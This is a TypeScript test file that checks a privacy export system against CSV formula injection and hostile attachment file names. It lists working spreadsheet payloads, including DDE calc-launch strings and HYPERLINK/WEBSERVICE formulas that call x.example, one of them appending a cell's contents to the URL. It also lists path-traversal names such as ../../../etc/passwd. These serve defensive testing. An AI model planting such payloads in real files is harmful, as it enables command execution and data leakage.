import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { foldName, safeName } from '../../src/artefacts/entry-names.ts';
import { unescapeCell } from '../../src/artefacts/formula.ts';
import { runImport } from '../../src/intake/import.service.ts';
import { importNdjson } from '../../src/intake/ndjson.importer.ts';
import type { RawRecord } from '../../src/intake/records.ts';
import { downloadZip, finished } from '../rights/support.ts';
import { openWorld, type World } from '../support/world.ts';
import { inFolder, LONG } from './support/outcome.ts';

let world: World;
let tenant: string;
beforeAll(async () => {
  world = await openWorld();
  tenant = await world.tenant();
});
afterAll(() => world.close());

async function feed(app: string, records: readonly RawRecord[], files: [string, string][] = []): Promise<void> {
  const lines = records.map((record) => `${JSON.stringify(record)}\n`).join('');
  const content = new Map<string, Buffer>([
    ['data.ndjson', Buffer.from(lines)],
    ...files.map(([name, text]): [string, Buffer] => [name, Buffer.from(text)]),
  ]);
  const report = await inFolder(content, (folder) =>
    runImport(world.system, { ...world.cli, tenantId: tenant }, app, importNdjson, folder),
  );
  expect(report.skipped.first).toEqual([]);
}

/** The entries of somebody's package, as an officer asks for it. */
async function packageOf(app: string, person: string, format: 'CSV' | 'JSON'): Promise<Map<string, Buffer>> {
  const ask = world.as({ tenant, role: 'PRIVACY_OFFICER' });
  const user = await world.userId(tenant, app, person);
  const asked = await ask(
    'mutation ($user: ID, $format: PackageFormat!) { requestAccess(userId: $user, format: $format, others: FULL, reason: "a test") { request { id } } }',
    { user, format },
  );
  expect(asked.messages).toEqual([]);
  const id = asked.data.requestAccess.request.id as string;
  // `finished` waits for half a minute; ten thousand files take longer.
  let request = await finished(ask, id).catch(() => undefined);
  for (let tries = 0; LONG && request === undefined && tries < 20; tries += 1)
    request = await finished(ask, id).catch(() => undefined);
  expect(request).toMatchObject({ status: 'COMPLETED', error: null });
  return downloadZip(world, ask, request.artefact.id);
}

const PAYLOADS = [
  '=1+1',
  '+1+cmd',
  '-1+cmd',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\u2060\u200D=1+1',
  '\u202E=1+1',
  '\u3000=1+1',
  '\u00AD=1+1',
  '＝1+1',
  '＋1+cmd',
  '－1+cmd',
  '＠SUM(A1)',
  '﹦1+1',
  '−1+cmd',
  "=cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=HYPERLINK("http://x.example/?"&A1,"see")',
  '=WEBSERVICE("http://x.example")',
  "'=1+1",
  '+49 30 A1',
  '--1;=1+1',
];

/** By the words of spreadsheets' makers, not by the rule under test: what is left when nobody sees what they trim. */
const isLive = (cell: string): boolean => {
  const visible = cell.replace(/^[\s\p{Cc}\p{Cf}\p{Z}\u00AD]+/u, '');
  if (/^[\t\r]/.test(cell)) return true;
  return /^[=@＝＠＋－﹦﹢﹣﹫−]/u.test(visible) || (/^[+-]/.test(visible) && !/^[+-][\d ().,/%eE+-]*$/.test(visible));
};

const at = '2026-01-01T00:00:00Z';
/** One person of whom everything that a platform may say freely is a formula. */
function armed(p: string, n: number): RawRecord[] {
  const conversation = `${p}room${n}`;
  return [
    {
      type: 'conversation',
      externalId: conversation,
      kind: 'DIRECT',
      name: p,
      participants: [{ user: '=ada', role: p, joinedAt: at }, { user: '@ben' }],
    },
    {
      type: 'message',
      externalId: `${p}m`,
      conversation,
      author: '=ada',
      sentAt: at,
      body: p,
      channel: p,
      campaignId: p,
      metadata: { [p]: p },
      attachments: [{ externalId: `${p}a`, name: p, contentType: p, url: p, path: 'a.txt' }],
      reactions: [{ user: '=ada', emoji: p }],
    },
    { type: 'message', externalId: `${p}o`, conversation, author: '@ben', sentAt: at, body: p },
    { type: 'call', externalId: `${p}c`, conversation, initiator: '=ada', startedAt: at, participants: [{ user: '=ada' }] },
    { type: 'delivery', externalId: `${p}d`, user: '=ada', channel: p, source: p, destination: p, status: p, at },
    { type: 'businessLink', user: '=ada', system: p, reference: p },
  ];
}

test('formulas in everything a platform says: none is live in any column of any CSV, and all come back by the rule', async () => {
  const app = await world.app(tenant);
  const [first, second] = PAYLOADS as [string, string];
  await feed(
    app,
    [
      {
        type: 'user',
        externalId: '=ada',
        profile: { displayName: first, handle: second, email: first, title: first, locale: second },
        metadata: { [first]: second },
        identifiers: PAYLOADS.map((value) => ({ type: 'TWITTER', value })),
        channels: PAYLOADS.map((p) => ({ channel: p, externalId: p, displayName: p, status: p, raw: { [p]: p } })),
      },
      { type: 'user', externalId: '@ben', profile: { displayName: '@SUM(A1)' } },
      ...PAYLOADS.flatMap(armed),
    ],
    [['a.txt', 'content']],
  );
  const [csv, json] = [await packageOf(app, '=ada', 'CSV'), await packageOf(app, '=ada', 'JSON')];
  const document = JSON.parse(json.get('data.json')!.toString()) as Record<
    'data' | 'context',
    Record<string, Record<string, unknown>[]>
  >;
  const carrying = new Set<string>();
  let cells = 0;
  for (const [name, content] of csv) {
    if (!name.endsWith('.csv')) continue;
    const section = name.startsWith('context-') ? document.context[name.slice(8, -4)]! : document.data[name.slice(0, -4)]!;
    const [head, ...rows] = parse(content, { bom: true }) as string[][];
    expect(rows).toHaveLength(section.length);
    for (const [index, column] of head!.entries()) {
      for (const [row, { [index]: cell = '' }] of rows.entries()) {
        cells += 1;
        if (isLive(cell)) throw new Error(`${name}, ${column}: ${JSON.stringify(cell)} is live.`);
        const exact = section[row]![column];
        expect(unescapeCell(cell)).toBe(
          exact === null ? '' : typeof exact === 'object' ? JSON.stringify(exact) : String(exact as string),
        );
      }
      const restored = new Set(rows.map((row) => unescapeCell(row[index]!)));
      if (PAYLOADS.every((payload) => restored.has(payload))) carrying.add(`${name} ${column}`);
    }
  }
  expect(cells).toBeGreaterThan(1000);
  // Each of these held all thirty, so that the test is about something; ids, times and closed lists cannot.
  expect([...carrying].sort()).toMatchInlineSnapshot(`
   [
     "attachments.csv contentType",
     "attachments.csv name",
     "attachments.csv url",
     "businessLinks.csv reference",
     "businessLinks.csv system",
     "channels.csv channel",
     "channels.csv displayName",
     "channels.csv externalId",
     "channels.csv status",
     "context-conversations.csv name",
     "context-messages.csv body",
     "conversations.csv role",
     "deliveries.csv channel",
     "deliveries.csv destination",
     "deliveries.csv source",
     "deliveries.csv status",
     "messages.csv body",
     "messages.csv campaignId",
     "messages.csv channel",
     "reactions.csv emoji",
   ]
  `);
});

const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc
    .array(
      fc.constantFrom(
        '..',
        '/',
        '\\',
        '\0',
        ':',
        '.',
        ' ',
        'CON',
        'nul',
        '.txt',
        '\u202E',
        '\u200B',
        '%2e%2e',
        '~',
        '-rf',
        'é',
        'e\u0301',
        'ﬁ',
        'A',
        'a',
        '\uD800',
        '💥',
        '\n',
        '|',
        '*',
      ),
      { maxLength: 12 },
    )
    .map((parts) => parts.join('')),
  fc.constantFrom(
    '../../../etc/passwd',
    '..\\..\\x',
    'C:\\x',
    '/x',
    'data.json',
    'manifest.json',
    '../manifest.json',
    'a.txt',
    'A.TXT',
    '',
    '.',
    '..',
    'x'.repeat(1024),
    `${'💥'.repeat(500)}.pdf`,
  ),
);

test(`${LONG ? '10,000' : '100'} files named by attackers have safe, unique paths in a package, and their own content`, async () => {
  const app = await world.app(tenant);
  const seed = Number(process.env['FC_SEED'] ?? Date.now() % 2 ** 31);
  process.stdout.write(`fast-check seed ${seed}\n`);
  const names = fc.sample(hostile, { numRuns: LONG ? 10_000 : 100, seed });
  const attachments = names.map((name, index) => ({
    externalId: `a${index}`,
    name: name.slice(0, 1024),
    path: `files/${index % 100}.txt`,
  }));
  const messages = Array.from({ length: Math.ceil(names.length / 100) }, (_, index): RawRecord => ({
    type: 'message',
    externalId: `m${index}`,
    conversation: 'room',
    author: 'ada',
    sentAt: at,
    attachments: attachments.slice(index * 100, index * 100 + 100),
  }));
  const files = Array.from({ length: 100 }, (_, index): [string, string] => [`files/${index}.txt`, `content ${index}`]);
  await feed(
    app,
    [
      { type: 'user', externalId: 'ada' },
      { type: 'conversation', externalId: 'room', kind: 'PERSONAL', participants: [{ user: 'ada' }] },
      ...messages,
    ],
    files,
  );
  const entries = await packageOf(app, 'ada', 'JSON');
  const document = JSON.parse(entries.get('data.json')!.toString()) as {
    data: { attachments: { externalId: string; file: string }[] };
  };
  const paths = [...entries.keys()];
  expect(document.data.attachments).toHaveLength(names.length);
  expect(new Set(paths.map(foldName)).size).toBe(names.length + paths.filter((path) => !path.startsWith('files/')).length);
  for (const { externalId, file } of document.data.attachments) {
    const [folder, name, ...rest] = file.split('/');
    expect([folder, rest, safeName(name!)]).toEqual(['files', [], name]);
    expect(Buffer.byteLength(file)).toBeLessThan(255);
    expect(entries.get(file)?.toString()).toBe(`content ${Number(externalId.slice(1)) % 100}`);
  }
}, 1_800_000);
